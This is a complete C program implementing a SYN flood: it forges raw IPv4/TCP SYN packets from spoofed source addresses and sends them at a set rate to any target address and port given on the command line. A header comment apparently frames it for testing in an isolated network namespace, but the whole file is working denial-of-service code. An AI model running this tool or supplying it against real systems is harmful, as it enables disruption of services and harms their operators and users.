/* synflood SECS RATE ADDRESSES TO PORT: sends RATE SYNs a second to TO:PORT from ADDRESSES forged addresses (198.18.0.1 and those that
   follow), which answer nothing. Needs CAP_NET_RAW; run in a network namespace, with a route back that leads nowhere. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
struct packet { struct iphdr ip; struct tcphdr tcp; };
struct pseudo { unsigned from, to; unsigned char zero, protocol; unsigned short length; struct tcphdr tcp; };
static unsigned short checksum(void *data, int bytes) {
    unsigned sum = 0; unsigned char *byte = data; unsigned short word;
    for (; bytes > 1; bytes -= 2, byte += 2) { memcpy(&word, byte, 2); sum += word; }
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return ~sum;
}
static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }
int main(int count, char **words) {
    if (count < 6) return 2;
    double end = now() + atof(words[1]), rate = atof(words[2]), begin = now();
    unsigned addresses = atoi(words[3]);
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) { perror("socket"); return 1; }
    struct sockaddr_in to = {.sin_family = AF_INET};
    inet_pton(AF_INET, words[4], &to.sin_addr);
    for (long sent = 0; now() < end;) {
        for (; sent < (now() - begin) * rate; sent++) {
            struct packet packet = {0};
            packet.ip.version = 4; packet.ip.ihl = 5; packet.ip.ttl = 64; packet.ip.protocol = IPPROTO_TCP;
            packet.ip.tot_len = htons(sizeof packet);
            packet.ip.saddr = htonl(0xc6120001u + sent % addresses); packet.ip.daddr = to.sin_addr.s_addr;
            packet.tcp.source = htons(1024 + (sent / addresses) % 60000); packet.tcp.dest = htons(atoi(words[5]));
            packet.tcp.seq = htonl(sent * 2654435761u); packet.tcp.doff = 5; packet.tcp.syn = 1; packet.tcp.window = htons(64240);
            struct pseudo pseudo = {packet.ip.saddr, packet.ip.daddr, 0, IPPROTO_TCP, htons(sizeof packet.tcp), packet.tcp};
            packet.tcp.check = checksum(&pseudo, sizeof pseudo);
            if (sendto(fd, &packet, sizeof packet, 0, (void *)&to, sizeof to) < 0) perror("sendto");
        }
        usleep(2000);
    }
}
